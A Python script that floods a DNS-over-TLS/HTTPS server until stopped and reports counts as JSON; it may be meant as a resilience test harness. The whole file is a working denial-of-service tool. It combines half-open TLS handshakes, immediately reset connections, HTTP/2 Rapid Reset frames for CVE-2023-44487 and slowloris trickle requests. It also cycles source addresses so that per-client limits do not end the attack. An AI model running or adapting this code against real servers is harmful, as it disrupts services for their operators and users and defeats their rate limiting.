"""What abuses a server of DNS over TCP, TLS and HTTP, at fixed rates, until SIGTERM; then prints as JSON what it did.

    flooder.py SERVER SOURCE…       from these addresses by turns, so that no limit of one client's ends it

Four ways at once: TLS handshakes that begin and never go on, connections that are reset as soon as they are open, HTTP/2
requests that are reset at once (CVE-2023-44487), and requests that send one byte a second.
"""

from __future__ import annotations

import collections
import contextlib
import itertools
import json
import signal
import socket
import struct
import sys
import time

TLS_PORT, HTTP_PORT = 853, 8053
TICK_S = 0.02
# A second, of each.
HALF_OPEN, CONNECTS, RAPID, RESETS_EACH = 200, 400, 20, 400
LORIS = 500  # connections
HALF_OPEN_S, RAPID_S = 6, 0.5  # how long each is kept

HELLO = bytes.fromhex("16030100f8010000f40303") + bytes(60)  # the beginning of a record of 248 bytes
QUERY = b"/dns-query?dns=AAABAAABAAAAAAAABmZsb29kZQdleGFtcGxlA2NvbQAAAQAB"
HEAD = b"\x82\x87\x04" + bytes([len(QUERY)]) + QUERY + b"\x01\x01x"


def frame(kind: int, flags: int, stream: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + bytes([kind, flags]) + struct.pack("!I", stream) + payload


def rapid_resets() -> bytes:
    cancelled = (frame(1, 5, stream, HEAD) + frame(3, 0, stream, struct.pack("!I", 8)) for stream in range(1, 2 * RESETS_EACH, 2))
    return b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0) + b"".join(cancelled)


class Flooder:
    def __init__(self, server: str, sources: list[str]):
        self.server, self.sources = server, itertools.cycle(sources)
        self.done = collections.Counter()
        self.open: collections.deque[tuple[float, socket.socket]] = collections.deque()  # when each is to be closed
        self.new: list[tuple[str, socket.socket]] = []
        self.loris: list[socket.socket | None] = [None] * LORIS
        self.resets = rapid_resets()

    def connect(self, port: int) -> socket.socket:
        sock = socket.socket()
        sock.setblocking(False)
        sock.setsockopt(socket.IPPROTO_IP, 24, 1)  # IP_BIND_ADDRESS_NO_PORT
        sock.bind((next(self.sources), 0))
        sock.connect_ex((self.server, port))
        return sock

    def say(self, sock: socket.socket, what: bytes) -> bool:
        with contextlib.suppress(OSError):
            return sock.send(what) == len(what)
        return False

    def go_on(self, now: float) -> None:
        """What was begun in the turn before."""
        for kind, sock in self.new:
            if kind == "connects":
                sock.setsockopt(socket.SOL_SOCKET, socket.SO_LINGER, struct.pack("ii", 1, 0))
                sock.close()
                self.done[kind] += 1
            else:
                self.done[kind] += self.say(sock, HELLO if kind == "half_open" else self.resets)
                self.open.append((now + (HALF_OPEN_S if kind == "half_open" else RAPID_S), sock))
        self.new.clear()
        for _ in range(len(self.open)):
            until, sock = self.open.popleft()
            if until < now:
                sock.close()
            else:
                self.open.append((until, sock))

    def turn(self, number: int, now: float) -> None:
        self.go_on(now)
        for kind, rate, port in (("half_open", HALF_OPEN, TLS_PORT), ("connects", CONNECTS, TLS_PORT), ("rapid", RAPID, HTTP_PORT)):
            due = int((number + 1) * rate * TICK_S) - int(number * rate * TICK_S)
            self.new += [(kind, self.connect(port)) for _ in range(due)]
        share = int(1 / TICK_S)  # of the slow ones, each turn
        for i in range(number % share, LORIS, share):
            if self.loris[i] is None or not self.say(self.loris[i], b"G"):
                if self.loris[i] is not None:
                    self.loris[i].close()
                self.loris[i] = self.connect(HTTP_PORT)
            else:
                self.done["loris_bytes"] += 1


def main() -> None:
    flooder = Flooder(sys.argv[1], sys.argv[2:])
    ended = []
    signal.signal(signal.SIGTERM, lambda *_: ended.append(True))
    begin = time.monotonic()
    print("floods", flush=True)
    for number in itertools.count():
        if ended:
            break
        now = time.monotonic()
        flooder.turn(number, now)
        time.sleep(max(0.0, begin + (number + 1) * TICK_S - time.monotonic()))
    print(json.dumps({**flooder.done, "seconds": time.monotonic() - begin}), flush=True)


if __name__ == "__main__":
    main()
